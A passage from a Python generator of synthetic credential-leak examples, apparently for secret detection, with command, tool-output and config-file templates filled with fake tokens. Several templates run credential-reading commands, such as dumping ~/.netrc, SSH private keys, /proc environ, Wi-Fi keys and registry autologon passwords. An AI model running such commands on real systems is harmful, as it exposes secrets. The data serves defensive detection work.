    "ldapsearch -x -H ldaps://{host} -D 'CN={user},OU=Service,DC=corp,DC={org},DC=example' -w '{S}' -b 'DC=corp,DC={org},DC=example' '(sAMAccountName=jdoe)' memberOf",
    pw, "ldaps://{host}")
CMD("mount-cifs-password-option",
    "sudo mount -t cifs //{host}/pcap /mnt/pcap -o username={user},password={S},vers=3.0,ro",
    pw_plain, "//{host}/pcap /mnt/pcap")
CMD("sqlcmd-capital-p",
    "sqlcmd -S {host},1433 -U sa -P '{S}' -Q \"SELECT TOP 10 * FROM dbo.Alerts ORDER BY Created DESC\"",
    pw, "sqlcmd -S {host},1433 -U sa")
CMD("curl-grafana-service-account-bearer",
    "curl -s -H 'Authorization: Bearer {S}' https://grafana.{org}.internal/api/dashboards/uid/soc-overview | jq .meta",
    glsa, "https://grafana.{org}.internal/api/dashboards/uid/soc-overview")
CMD("vault-login-positional-token",
    "vault login {S}\nvault kv get -field=hec_token secret/siem/splunk",
    hvs, "vault kv get -field=hec_token secret/siem/splunk")
CMD("heredoc-filebeat-default-env",
    "sudo tee /etc/default/filebeat <<'EOF'\nES_USERNAME=filebeat_ingest\nES_PASSWORD={S}\nES_HOSTS=https://{host}:9200\nEOF",
    pw, "ES_HOSTS=https://{host}:9200")
CMD("curl-config-herestring-s1",
    "curl -s --config - <<< 'header = \"Authorization: ApiToken {S}\"' 'https://usea1-{org}.sentinelone.net/web/api/v2.1/threats?limit=5'",
    s1_token, "usea1-{org}.sentinelone.net")
CMD("curl-entra-client-credentials-urlencode",
    "curl -s https://login.microsoftonline.com/{uuid}/oauth2/v2.0/token -d grant_type=client_credentials -d client_id={uuid_2} --data-urlencode 'client_secret={S}' -d scope=https://api.securitycenter.microsoft.com/.default",
    azure_cs, "client_id={uuid_2}")
CMD("plink-pw-flag",
    "plink.exe -ssh {user}@{host} -pw {S} \"tail -n 200 /var/log/suricata/fast.log\"",
    pw_plain, "/var/log/suricata/fast.log")
CMD("curl-thehive-bearer-query",
    "curl -s -H 'Authorization: Bearer {S}' https://thehive.{org}.internal/api/v1/query -H 'Content-Type: application/json' -d '{\"query\":[{\"_name\":\"listCase\"}]}'",
    lambda: _chars(_AL + "+/", 32), "https://thehive.{org}.internal/api/v1/query")
CMD("curl-cortex-xdr-authorization-header",
    "curl -s -X POST https://api-{org}.xdr.us.paloaltonetworks.com/public_api/v1/incidents/get_incidents/ -H 'x-xdr-auth-id: {small}' -H 'Authorization: {S}' -H 'Content-Type: application/json' -d '{}'",
    lambda: al(128), "x-xdr-auth-id: {small}")
CMD("kafka-producer-jaas-property",
    "kafka-console-producer.sh --bootstrap-server {host}:9093 --topic soc.alerts --producer-property security.protocol=SASL_SSL --producer-property sasl.mechanism=SCRAM-SHA-512 --producer-property 'sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required username=\"{user}\" password=\"{S}\";'",
    pw, "--topic soc.alerts")
CMD("git-credential-approve-printf",
    "printf 'protocol=https\\nhost=github.com\\nusername=soc-bot\\npassword={S}\\n' | git credential approve",
    ghp, "git credential approve")
CMD("curl-abuseipdb-key-header",
    "curl -G https://api.abuseipdb.com/api/v2/check --data-urlencode 'ipAddress={pip}' -d maxAgeInDays=90 -H 'Key: {S}' -H 'Accept: application/json'",
    lambda: hexs(80), "ipAddress={pip}")
CMD("curl-greynoise-key-header",
    "curl -s -H 'key: {S}' https://api.greynoise.io/v3/community/{pip}",
    lambda: al(64), "https://api.greynoise.io/v3/community/{pip}")
CMD("curl-otx-api-key-header",
    "curl -s -H 'X-OTX-API-KEY: {S}' https://otx.alienvault.com/api/v1/indicators/domain/{dom}/general",
    lambda: hexs(64), "indicators/domain/{dom}/general")
CMD("python-c-vt-client-inline",
    "python3 -c \"import vt; c=vt.Client('{S}'); print(c.get_object('/ip_addresses/{pip}').last_analysis_stats)\"",
    lambda: hexs(64), "/ip_addresses/{pip}")
CMD("curl-pagerduty-events-routing-key",
    "curl -X POST https://events.pagerduty.com/v2/enqueue -H 'Content-Type: application/json' -d '{\"routing_key\": \"{S}\", \"event_action\": \"trigger\", \"payload\": {\"summary\": \"EDR isolation failed on {host}\", \"severity\": \"critical\", \"source\": \"soar\"}}'",
    lambda: hexs(32), "EDR isolation failed on {host}")
CMD("curl-opsgenie-geniekey",
    "curl -X POST https://api.opsgenie.com/v2/alerts -H 'Authorization: GenieKey {S}' -H 'Content-Type: application/json' -d '{\"message\": \"Splunk HEC queue blocked on {host}\"}'",
    guid, "Splunk HEC queue blocked on {host}")
CMD("curl-hybrid-analysis-api-key",
    "curl -s -X POST https://www.hybrid-analysis.com/api/v2/search/hash -H 'api-key: {S}' -H 'User-Agent: Falcon Sandbox' -d 'hash={sha256}'",
    lambda: lo(64), "hash={sha256}")
CMD("curl-okta-ssws-logs",
    "curl -s -H 'Authorization: SSWS {S}' 'https://{org}.okta.com/api/v1/logs?filter=eventType+eq+%22user.session.start%22&limit=200'",
    okta_ssws, "{org}.okta.com/api/v1/logs")
CMD("curl-duo-admin-ikey-skey-script",
    "./duo_admin_logs.sh --host api-{rid}.duosecurity.com --ikey DI{ik} --skey {S} --since 12h",
    lambda: (al(40), {"ik": up(18)}), "--since 12h")
CMD("pan-os-keygen-curl-password",
    "curl -sk 'https://{host}/api/?type=keygen&user={user}&password={S}'",
    pw_url, "https://{host}/api/?type=keygen")
CMD("curl-graylog-token-basic",
    "curl -s -u {S}:token -H 'X-Requested-By: cli' https://graylog.{org}.internal/api/system/inputs",
    lambda: lo(52), "https://graylog.{org}.internal/api/system/inputs")


# =====================================================================
# group: tool-output  (what a command printed back)
# =====================================================================
def _es_enroll():
    return enc64(json.dumps({"ver": "8.%d.%d" % (_R.randint(8, 15), _R.randint(0, 3)),
                             "adr": ["%s:9200" % _ip()], "fgr": hexs(64),
                             "key": al(20) + ":" + _chars(_B64U, 22)}, separators=(",", ":")))


def _openssh_body():
    raw = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW" + b64(300)
    return "\n".join(raw[i:i + 70] for i in range(0, len(raw), 70))


OUT("env-grep-hec-token",
    "$ env | grep -i -E 'splunk|hec'\nSPLUNK_HEC_TOKEN={S}\nSPLUNK_HEC_URL=https://{host}:8088\nSPLUNK_INDEX={index}",
    guid, "SPLUNK_HEC_URL=https://{host}:8088")
OUT("kubectl-get-secret-yaml-base64-data",
    "$ kubectl -n {ns} get secret vt-api -o yaml\napiVersion: v1\ndata:\n  api-key: {S}\nkind: Secret\nmetadata:\n  name: vt-api\n  namespace: {ns}\ntype: Opaque",
    lambda: enc64(hexs(64)), "name: vt-api")
OUT("docker-inspect-env-array",
    "$ docker inspect logstash --format '{{json .Config.Env}}' | jq .\n[\n  \"ELASTICSEARCH_HOSTS=https://{host}:9200\",\n  \"ELASTICSEARCH_USERNAME=logstash_writer\",\n  \"ELASTICSEARCH_PASSWORD={S}\",\n  \"PATH=/usr/share/logstash/bin:/usr/local/sbin:/usr/local/bin\"\n]",
    pw, "ELASTICSEARCH_USERNAME=logstash_writer")
OUT("aws-sts-assume-role-secret-access-key",
    "$ aws sts assume-role --role-arn arn:aws:iam::{acct}:role/IR-Responder --role-session-name {ticket}\n{\n    \"Credentials\": {\n        \"AccessKeyId\": \"{ak}\",\n        \"SecretAccessKey\": \"{S}\",\n        \"Expiration\": \"{ts}\"\n    }\n}",
    lambda: (aws_secret(), {"ak": asia()}), "arn:aws:iam::{acct}:role/IR-Responder")
OUT("aws-sts-session-token-field",
    "{\n  \"Credentials\": {\n    \"SessionToken\": \"{S}\",\n    \"Expiration\": \"{ts}\"\n  },\n  \"AssumedRoleUser\": {\"Arn\": \"arn:aws:sts::{acct}:assumed-role/SOC-ReadOnly/{first}\"}\n}",
    aws_session, "assumed-role/SOC-ReadOnly/{first}")
OUT("az-ad-sp-create-for-rbac-json",
    "$ az ad sp create-for-rbac --name sp-sentinel-ingest --role 'Log Analytics Contributor' --scopes /subscriptions/{uuid}\n{\n  \"appId\": \"{uuid_2}\",\n  \"displayName\": \"sp-sentinel-ingest\",\n  \"password\": \"{S}\",\n  \"tenant\": \"{uuid_3}\"\n}",
    azure_cs, "\"displayName\": \"sp-sentinel-ingest\"")
OUT("vault-kv-get-table-output",
    "$ vault kv get secret/soc/crowdstrike\n====== Data ======\nKey              Value\n---              -----\nbase_url         https://api.eu-1.crowdstrike.com\nclient_id        {md5}\nclient_secret    {S}",
    cs_secret, "https://api.eu-1.crowdstrike.com")
OUT("elasticsearch-reset-password-new-value",
    "$ bin/elasticsearch-reset-password -u elastic\nThis tool will reset the password of the [elastic] user to an autogenerated value.\nThe password will be printed in the console.\nPlease confirm that you would like to continue [y/N]y\n\n\nPassword for the [elastic] user successfully reset.\nNew value: {S}",
    lambda: _chars(_AL + "*_=+-", 20), "Password for the [elastic] user successfully reset.")
OUT("elasticsearch-create-enrollment-token-output",
    "$ bin/elasticsearch-create-enrollment-token -s kibana --url https://{ip}:9200\n{S}",
    _es_enroll, "bin/elasticsearch-create-enrollment-token -s kibana")
OUT("gh-auth-token-stdout",
    "$ gh auth status\ngithub.com\n  Logged in to github.com account {user} (keyring)\n$ gh auth token\n{S}",
    gho, "Logged in to github.com account {user}")
OUT("cat-netrc-machine-block",
    "$ cat ~/.netrc\nmachine api.{org}.internal\n  login {user}\n  password {S}\nmachine {host}\n  login anonymous",
    pw, "machine api.{org}.internal")
OUT("git-config-list-remote-url-token",
    "$ git config -l | grep url\nremote.origin.url=https://x-access-token:{S}@github.com/{org}/soc-playbooks.git\nbranch.main.remote=origin",
    ghs, "github.com/{org}/soc-playbooks.git")
OUT("ps-aux-java-datasource-password",
    "$ ps aux | grep case-sync\n{user}   {pid}  2.1  3.4 5123400 561232 ?  Ssl  08:14  12:03 /usr/bin/java -Xmx2g -Dspring.datasource.url=jdbc:postgresql://{host}:5432/cases -Dspring.datasource.password={S} -jar case-sync.jar",
    pw_plain, "jdbc:postgresql://{host}:5432/cases")
OUT("history-output-mysql-inline-password",
    "$ history | tail -4\n  512  ssh {user}@{host}\n  513  mysql -u root -p{S} misp\n  514  sudo tail -f /var/log/misp/error.log\n  515  history | tail -4",
    pw_plain, "sudo tail -f /var/log/misp/error.log")
OUT("crowdstrike-oauth-token-response",
    "$ curl -s -X POST https://api.us-2.crowdstrike.com/oauth2/token -d @creds.form\n{\n  \"access_token\": \"{S}\",\n  \"token_type\": \"bearer\",\n  \"expires_in\": 1799\n}",
    jwt, "https://api.us-2.crowdstrike.com/oauth2/token")
OUT("splunk-auth-login-session-key-xml",
    "$ curl -k https://{host}:8089/services/auth/login -d username={user} -d password=@-\n<response>\n  <sessionKey>{S}</sessionKey>\n  <messages>\n    <msg code=\"\"></msg>\n  </messages>\n</response>",
    lambda: _chars(_AL + "^_", 90), "https://{host}:8089/services/auth/login")
OUT("splunk-rest-hec-token-entry",
    "<entry>\n  <title>http://fw-ingest-{small}</title>\n  <content type=\"text/xml\">\n    <s:dict>\n      <s:key name=\"index\">{index}</s:key>\n      <s:key name=\"token\">{S}</s:key>\n      <s:key name=\"useACK\">0</s:key>\n    </s:dict>\n  </content>\n</entry>",
    lambda: guid().upper(), "<s:key name=\"index\">{index}</s:key>")
OUT("grep-r-ansible-defaults-password",
    "$ grep -rn password roles/misp/\nroles/misp/defaults/main.yml:7:misp_admin_password: \"{S}\"\nroles/misp/tasks/main.yml:42:    password: \"{{ misp_admin_password }}\"",
    pw, "roles/misp/tasks/main.yml:42")
OUT("docker-compose-config-rendered-env",
    "$ docker compose config\nservices:\n  opencti:\n    environment:\n      APP__PORT: \"8080\"\n      OPENCTI_ADMIN_EMAIL: {email}\n      OPENCTI_ADMIN_TOKEN: {S}\n    image: opencti/platform:{ver}",
    guid, "OPENCTI_ADMIN_EMAIL: {email}")
OUT("helm-get-values-user-supplied",
    "$ helm get values elastic-stack -n {ns}\nUSER-SUPPLIED VALUES:\nelasticsearch:\n  auth:\n    username: elastic\n    password: {S}\nkibana:\n  replicas: 2",
    pw, "helm get values elastic-stack -n {ns}")
OUT("kubectl-describe-pod-env-literal",
    "$ kubectl -n {ns} describe pod {app}-7c9f8d-{short}\n    Environment:\n      VT_API_KEY:   {S}\n      LOG_LEVEL:    info\n      MISP_URL:     <set to the key 'url' in secret 'misp'>  Optional: false",
    lambda: hexs(64), "MISP_URL:     <set to the key 'url' in secret 'misp'>")
OUT("systemctl-show-cribl-master-url-token",
    "$ systemctl show cribl -p Environment\nEnvironment=CRIBL_DIST_MODE=worker CRIBL_DIST_MASTER_URL=tcp://{S}@cribl-leader.{org}.internal:4200 CRIBL_GROUP=edge",
    lambda: al(32), "cribl-leader.{org}.internal:4200")
OUT("cat-git-credentials-azure-devops",
    "$ cat ~/.git-credentials\nhttps://{user}:{S}@dev.azure.com",
    ado_pat, "$ cat ~/.git-credentials")
OUT("security-find-generic-password-w",
    "$ security find-generic-password -a {first} -s 'soc-vt-key' -w\n{S}",
    lambda: hexs(64), "-s 'soc-vt-key'")
OUT("pass-show-multiline-entry",
    "$ pass show soc/qualys/api\n{S}\nusername: {user}\nurl: https://qualysguard.qg2.apps.qualys.com",
    pw, "username: {user}")
OUT("op-read-secret-reference",
    "$ op read 'op://SOC Shared/Shodan/credential'\n{S}",
    lambda: al(32), "op://SOC Shared/Shodan/credential")
OUT("sqlite-integration-settings-row",
    "sqlite> select name, value from integration_settings where name like '%vt%';\nvt_api_key|{S}\nvt_rate_limit|4\nvt_premium|0",
    lambda: hexs(64), "vt_rate_limit|4")
OUT("python-repl-environ-value",
    ">>> import os\n>>> os.environ['MISP_KEY']\n'{S}'\n>>> os.environ['MISP_URL']\n'https://misp.{org}.internal'",
    lambda: al(40), "'https://misp.{org}.internal'")
OUT("aws-secretsmanager-secretstring-escaped-json",
    "$ aws secretsmanager get-secret-value --secret-id prod/soc/qualys\n{\n    \"ARN\": \"arn:aws:secretsmanager:{region}:{acct}:secret:prod/soc/qualys-{short}\",\n    \"Name\": \"prod/soc/qualys\",\n    \"SecretString\": \"{\\\"username\\\":\\\"{user}\\\",\\\"password\\\":\\\"{S}\\\"}\",\n    \"VersionStages\": [\"AWSCURRENT\"]\n}",
    pw, "\"Name\": \"prod/soc/qualys\"")
OUT("gcloud-print-access-token",
    "$ gcloud auth print-access-token --impersonate-service-account=chronicle-ingest@{org}-secops.iam.gserviceaccount.com\n{S}",
    ya29, "chronicle-ingest@{org}-secops.iam.gserviceaccount.com")
OUT("az-account-get-access-token-json",
    "$ az account get-access-token --resource https://api.loganalytics.io\n{\n  \"accessToken\": \"{S}\",\n  \"expiresOn\": \"{date} 17:02:11.000000\",\n  \"subscription\": \"{uuid}\",\n  \"tenant\": \"{uuid_2}\",\n  \"tokenType\": \"Bearer\"\n}",
    jwt, "--resource https://api.loganalytics.io")
OUT("openssl-genpkey-stdout-pem",
    "$ openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048\n-----BEGIN PRIVATE KEY-----\n{S}\n-----END PRIVATE KEY-----",
    lambda: pem_body(1190, prefix="MIIEvgIBADANBgkqhkiG9w0BAQEFAASC"), "openssl genpkey -algorithm RSA")
OUT("wg-genkey-tee-output",
    "$ wg genkey | tee /etc/wireguard/soc-ir.key | wg pubkey\n# private (from tee): {S}\n# public: {pubk}",
    lambda: (b64(32), {"pubk": b64(32)}), "/etc/wireguard/soc-ir.key")
OUT("nmcli-show-secrets-psk",
    "$ nmcli -s -g 802-11-wireless-security.psk connection show SOC-Lab-5G\n{S}",
    pw, "connection show SOC-Lab-5G")
OUT("terraform-output-json-sensitive-value",
    "$ terraform output -json\n{\n  \"hec_token\": {\n    \"sensitive\": true,\n    \"type\": \"string\",\n    \"value\": \"{S}\"\n  },\n  \"hec_url\": {\"sensitive\": false, \"type\": \"string\", \"value\": \"https://{host}:8088\"}\n}",
    guid, "https://{host}:8088")
OUT("doppler-secrets-table",
    "$ doppler secrets --only-names=false -p soc-tools -c prd\n+-----------------------+------------------------------------------+\n| NAME                  | VALUE                                    |\n+-----------------------+------------------------------------------+\n| SENTINELONE_API_TOKEN | {S} |\n| SENTINELONE_URL       | https://euce1-{org}.sentinelone.net      |\n+-----------------------+------------------------------------------+",
    s1_token, "SENTINELONE_URL")
OUT("curl-verbose-request-bearer",
    "$ curl -v https://api.{org}.example/v2/alerts\n> GET /v2/alerts HTTP/2\n> Host: api.{org}.example\n> Authorization: Bearer {S}\n> User-Agent: curl/8.4.0\n> Accept: */*\n< HTTP/2 200",
    jwt, "> Host: api.{org}.example")
OUT("misp-auth-key-add-response",
    "{\n  \"AuthKey\": {\n    \"id\": \"{small}\",\n    \"uuid\": \"{uuid}\",\n    \"authkey_start\": \"{a4}\",\n    \"authkey_end\": \"{z4}\",\n    \"comment\": \"soar enrichment\",\n    \"authkey_raw\": \"{S}\"\n  }\n}",
    lambda: (lambda k: (k, {"a4": k[:4], "z4": k[-4:]}))(al(40)), "\"comment\": \"soar enrichment\"")
OUT("s1-generate-api-token-response",
    "$ curl -s -X POST https://usea1-{org}.sentinelone.net/web/api/v2.1/users/generate-api-token -H @auth.hdr\n{\"data\": {\"expiresAt\": \"{ts}\", \"token\": \"{S}\"}}",
    s1_token, "users/generate-api-token")
OUT("tenable-generate-keys-console",
    "API keys generated for {email}:\n  Access Key: {sha256}\n  Secret Key: {S}\nExisting keys for this user were invalidated.",
    lambda: hexs(64), "API keys generated for {email}")
OUT("nessuscli-activation-code-output",
    "$ /opt/nessus/sbin/nessuscli fetch --code-in-use\nYour Activation Code: {S}\nPlugin feed: Nessus Professional",
    lambda: "-".join(up(4) for _ in range(5)), "Plugin feed: Nessus Professional")
OUT("jq-filebeat-output-block",
    "$ jq .output.elasticsearch /etc/filebeat/filebeat.json\n{\n  \"hosts\": [\"https://{host}:9200\"],\n  \"username\": \"filebeat_ingest\",\n  \"password\": \"{S}\"\n}",
    pw, "\"username\": \"filebeat_ingest\"")
OUT("cat-pgpass-output",
    "$ cat ~/.pgpass\n{host}:5432:soc_cases:{user}:{S}\n*:5432:*:readonly:*",
    pw_noat, "{host}:5432:soc_cases:{user}")
OUT("printenv-openai-key",
    "$ printenv OPENAI_API_KEY\n{S}\n$ python3 triage_bot.py --model gpt-4o --dry-run",
    openai_key, "python3 triage_bot.py --model gpt-4o --dry-run")
OUT("docker-exec-env-mysql-password",
    "$ docker exec misp-core env | grep -i -e mysql -e base_url\nMYSQL_HOST=db\nMYSQL_USER=misp\nMYSQL_PASSWORD={S}\nBASE_URL=https://misp.{org}.internal",
    pw, "BASE_URL=https://misp.{org}.internal")
OUT("kubectl-jsonpath-base64-decoded",
    "$ kubectl -n {ns} get secret splunk-hec -o jsonpath='{.data.token}' | base64 -d\n{S}",
    guid, "get secret splunk-hec")
OUT("ansible-vault-view-output",
    "$ ansible-vault view group_vars/soc/vault.yml\nVault password:\nvault_thehive_api_key: {S}\nvault_thehive_url: https://thehive.{org}.internal",
    lambda: _chars(_AL + "+/", 32), "vault_thehive_url: https://thehive.{org}.internal")
OUT("sops-decrypt-output-yaml",
    "$ sops -d secrets/prod.enc.yaml\nsplunk:\n  hec_url: https://{host}:8088\n  hec_token: {S}",
    guid, "sops -d secrets/prod.enc.yaml")
OUT("az-keyvault-secret-show-value",
    "$ az keyvault secret show --vault-name kv-soc-prod -n s1-api-token\n{\n  \"id\": \"https://kv-soc-prod.vault.azure.net/secrets/s1-api-token/{md5}\",\n  \"name\": \"s1-api-token\",\n  \"value\": \"{S}\"\n}",
    s1_token, "--vault-name kv-soc-prod")
OUT("gcloud-secrets-versions-access",
    "$ gcloud secrets versions access latest --secret=chronicle-forwarder-secret --project={org}-secops\n{S}",
    lambda: b64(48), "--secret=chronicle-forwarder-secret")
OUT("cat-openssh-private-key",
    "$ cat ~/.ssh/soc_jump_ed25519\n-----BEGIN OPENSSH PRIVATE KEY-----\n{S}\n-----END OPENSSH PRIVATE KEY-----",
    _openssh_body, "~/.ssh/soc_jump_ed25519")
OUT("mysql-users-table-authkey-column",
    "mysql> SELECT id, email, authkey FROM users WHERE role_id = 1;\n+----+------------------------------+------------------------------------------+\n| id | email                        | authkey                                  |\n+----+------------------------------+------------------------------------------+\n|  1 | {email} | {S} |\n+----+------------------------------+------------------------------------------+",
    lambda: al(40), "SELECT id, email, authkey FROM users")
OUT("redis-config-get-requirepass",
    "{ip}:6379> CONFIG GET requirepass\n1) \"requirepass\"\n2) \"{S}\"",
    pw, "CONFIG GET requirepass")
OUT("consul-kv-get-token",
    "$ consul kv get soc/cribl/auth_token\n{S}",
    lambda: al(32), "consul kv get soc/cribl/auth_token")
OUT("proc-environ-tr-output",
    "$ sudo cat /proc/{pid}/environ | tr '\\0' '\\n'\nHOSTNAME={app}-worker\nCS_CLIENT_ID={md5}\nCS_CLIENT_SECRET={S}\nHOME=/home/app",
    cs_secret, "HOSTNAME={app}-worker")
OUT("wmic-commandline-splunk-login",
    "C:\\> wmic process where \"name='splunk.exe'\" get commandline\nCommandLine\n\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk.exe\" login -auth admin:{S}",
    pw_noat, "wmic process where")
OUT("registry-winlogon-defaultpassword",
    "PS C:\\> Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' | Select Default*,AutoAdminLogon\n\nDefaultUserName   : {user}\nDefaultPassword   : {S}\nAutoAdminLogon    : 1",
    pw, "DefaultUserName   : {user}")
OUT("netsh-wlan-key-content",
    "C:\\> netsh wlan show profile name=\"SOC-Guest\" key=clear\n...\nSecurity settings\n-----------------\n    Authentication         : WPA2-Personal\n    Key Content            : {S}",
    pw, "Authentication         : WPA2-Personal")
OUT("kubectl-config-view-raw-token",
    "$ kubectl config view --raw --minify\nusers:\n- name: soc-admin\n  user:\n    token: {S}",
    lambda: jwt({"iss": "kubernetes/serviceaccount", "kubernetes.io/serviceaccount/namespace": _pick(_NS),
                 "sub": "system:serviceaccount:siem:soc-admin"}), "- name: soc-admin")
OUT("jupyter-cell-print-config-dict",
    "In [7]: print(cfg)\n{'misp_url': 'https://misp.{org}.internal', 'misp_key': '{S}', 'verify_ssl': False}",
    lambda: al(40), "'misp_url': 'https://misp.{org}.internal'")
OUT("ldapsearch-userpassword-double-colon",
    "dn: uid={user},ou=svc,dc={org},dc=example\nobjectClass: inetOrgPerson\nuid: {user}\nuserPassword:: {S}",
    lambda: enc64(pw()), "dn: uid={user},ou=svc,dc={org},dc=example")
OUT("strings-binary-embedded-apikey",
    "$ strings -n 10 ./collector | grep -i -B1 -A1 securitytrails\nhttps://api.securitytrails.com/v1/\nAPIKEY={S}\nsecuritytrails: rate limited",
    lambda: al(32), "https://api.securitytrails.com/v1/")
OUT("rclone-config-show-s3-remote",
    "$ rclone config show evidence-s3\n[evidence-s3]\ntype = s3\nprovider = AWS\naccess_key_id = {ak}\nsecret_access_key = {S}\nregion = {region}",
    lambda: (aws_secret(), {"ak": akid()}), "[evidence-s3]")
OUT("cat-gh-hosts-yml",
    "$ cat ~/.config/gh/hosts.yml\ngithub.com:\n    oauth_token: {S}\n    user: {user}\n    git_protocol: https",
    gho, "git_protocol: https")
OUT("velociraptor-config-show-private-key",
    "$ velociraptor --config server.config.yaml config show | sed -n '/Frontend/,/private_key/p'\nFrontend:\n  hostname: {host}\n  private_key: |\n    -----BEGIN RSA PRIVATE KEY-----\n    {S}\n    -----END RSA PRIVATE KEY-----",
    lambda: "\n    ".join(pem_body(1188, prefix="MIIEowIBAAKCAQEA").split("\n")), "hostname: {host}")
OUT("splunk-btool-sslpassword-plaintext",
    "$ splunk btool outputs list --debug | grep -i password\n/opt/splunkforwarder/etc/system/local/outputs.conf sslPassword = {S}",
    pw, "/opt/splunkforwarder/etc/system/local/outputs.conf")
OUT("cribl-api-auth-login-token-response",
    "$ curl -s https://cribl-leader.{org}.internal:9000/api/v1/auth/login -d @login.json\n{\"token\":\"Bearer {S}\",\"forcePasswordChange\":false}",
    jwt, "forcePasswordChange")
OUT("thehive-user-renew-key-output",
    "$ curl -s -X POST -u admin@thehive.local:$TH_PW https://thehive.{org}.internal/api/v1/user/{user}@thehive.local/key/renew\n{S}",
    lambda: _chars(_AL + "+/", 32), "/key/renew")
OUT("datadog-api-key-list-json",
    "{\"data\": [{\"type\": \"api_keys\", \"attributes\": {\"name\": \"siem-forwarder\", \"key\": \"{S}\", \"last4\": \"{l4}\", \"created\": \"{ts}\"}}]}",
    lambda: (lambda k: (k, {"l4": k[-4:]}))(hexs(32)), "\"name\": \"siem-forwarder\"")
OUT("psql-select-connector-config-row",
    "soc_cases=# select name, config->>'api_key' as key from connectors where name = 'urlscan';\n  name   |                 key\n---------+--------------------------------------\n urlscan | {S}\n(1 row)",
    guid, "where name = 'urlscan'")


# =====================================================================
# group: config-file  (excerpts of files the agent opened)
# =====================================================================
def _glc():
    return "glc_" + enc64(json.dumps({"o": digits(6), "n": "stack-%s-hl-write-promtail" % digits(6),
                                       "k": al(24), "m": {"r": "prod-eu-west-2"}}, separators=(",", ":")))


def _sa_key_escaped():
    return "\\n".join(pem_body(1190, prefix="MIIEvQIBADANBgkqhkiG9w0BAQEFAASC").split("\n"))


CFG("dotenv-splunk-hec-token",
    "# .env for hec-relay (do not commit)\nSPLUNK_HEC_URL=https://{host}:8088/services/collector\nSPLUNK_HEC_TOKEN={S}\nSPLUNK_HEC_INDEX={index}\nVERIFY_TLS=false",
    guid, "SPLUNK_HEC_URL=https://{host}:8088/services/collector")
CFG("filebeat-yml-output-elasticsearch-password",
    "output.elasticsearch:\n  hosts: [\"https://{host}:9200\"]\n  username: \"filebeat_ingest\"\n  password: \"{S}\"\n  ssl.certificate_authorities: [\"/etc/filebeat/ca.crt\"]",
    pw, "username: \"filebeat_ingest\"")
CFG("logstash-pipeline-elasticsearch-output",
    "output {\n  elasticsearch {\n    hosts => [\"https://{host}:9200\"]\n    user => \"logstash_writer\"\n    password => \"{S}\"\n    index => \"soc-%{+YYYY.MM.dd}\"\n  }\n}",
    pw, "user => \"logstash_writer\"")
CFG("fluent-bit-es-http-passwd",
    "[OUTPUT]\n    Name         es\n    Match        kube.*\n    Host         {host}\n    Port         9200\n    HTTP_User    fluentbit\n    HTTP_Passwd  {S}\n    tls          On",
    pw_plain, "HTTP_User    fluentbit")
CFG("vector-toml-splunk-hec-default-token",
    "[sinks.splunk]\ntype = \"splunk_hec_logs\"\ninputs = [\"parse_zeek\"]\nendpoint = \"https://{host}:8088\"\ndefault_token = \"{S}\"\nencoding.codec = \"json\"",
    guid, "type = \"splunk_hec_logs\"")
CFG("splunk-outputs-conf-sslpassword",
    "[tcpout:primary_indexers]\nserver = {host}:9997\nclientCert = $SPLUNK_HOME/etc/auth/uf.pem\nsslPassword = {S}\nsslVerifyServerCert = true",
    pw, "[tcpout:primary_indexers]")
CFG("splunk-server-conf-pass4symmkey",
    "[clustering]\nmode = peer\nmanager_uri = https://{host}:8089\npass4SymmKey = {S}\n\n[replication_port://9887]",
    pw, "manager_uri = https://{host}:8089")
CFG("splunk-inputs-conf-http-token",
    "[http://fw-ingest]\ndisabled = 0\ntoken = {S}\nindex = {index}\nsourcetype = {st}\nuseACK = 0",
    lambda: guid().upper(), "[http://fw-ingest]")
CFG("docker-compose-environment-list-item",
    "services:\n  misp-core:\n    image: ghcr.io/misp/misp-docker/misp-core:latest\n    environment:\n      - MYSQL_USER=misp\n      - MYSQL_PASSWORD={S}\n      - BASE_URL=https://misp.{org}.internal",
    pw, "BASE_URL=https://misp.{org}.internal")
CFG("k8s-secret-stringdata-plain",
    "apiVersion: v1\nkind: Secret\nmetadata:\n  name: falcon-api\n  namespace: {ns}\ntype: Opaque\nstringData:\n  client_id: {md5}\n  client_secret: {S}",
    cs_secret, "name: falcon-api")
CFG("helm-values-opencti-admin-password",
    "opencti:\n  admin:\n    email: {email}\n    password: \"{S}\"\n  replicas: 2\nelasticsearch:\n  enabled: false",
    pw, "email: {email}")
CFG("aws-credentials-ini-profile",
    "[default]\nregion = {region}\n\n[soc-ir]\naws_access_key_id = {ak}\naws_secret_access_key = {S}",
    lambda: (aws_secret(), {"ak": akid()}), "[soc-ir]")
CFG("netrc-single-line-entry",
    "machine {host} login {user} password {S}",
    pw, "machine {host} login {user}")
CFG("pgpass-wildcard-db-line",
    "# hostname:port:database:username:password\n{host}:5432:*:{user}:{S}",
    pw_noat, "{host}:5432:*:{user}")
CFG("my-cnf-client-section",
    "[client]\nuser={user}\npassword=\"{S}\"\nhost={host}\ndefault-character-set=utf8mb4",
    pw, "host={host}")
CFG("npmrc-scoped-authtoken",
    "@{org}:registry=https://npm.{org}.internal/\n//npm.{org}.internal/:_authToken={S}\nalways-auth=true",
    npm_tok, "@{org}:registry=https://npm.{org}.internal/")
CFG("pypirc-internal-index-password",
    "[distutils]\nindex-servers = internal\n\n[internal]\nrepository = https://pypi.{org}.internal/\nusername = __token__\npassword = {S}",
    pypi_tok, "repository = https://pypi.{org}.internal/")
CFG("maven-settings-server-password",
    "<servers>\n  <server>\n    <id>soc-releases</id>\n    <username>{user}</username>\n    <password>{S}</password>\n  </server>\n</servers>",
    pw, "<id>soc-releases</id>")
CFG("nuget-config-cleartextpassword",
    "<packageSourceCredentials>\n  <soc-feed>\n    <add key=\"Username\" value=\"{user}\" />\n    <add key=\"ClearTextPassword\" value=\"{S}\" />\n  </soc-feed>\n</packageSourceCredentials>",
    pw, "<add key=\"Username\" value=\"{user}\" />")
CFG("docker-config-json-auths-base64",
    "{\n  \"auths\": {\n    \"registry.{org}.internal\": {\n      \"auth\": \"{S}\"\n    }\n  },\n  \"credsStore\": \"\"\n}",
    up_pair(), "\"registry.{org}.internal\"")
CFG("rclone-sftp-obscured-pass",
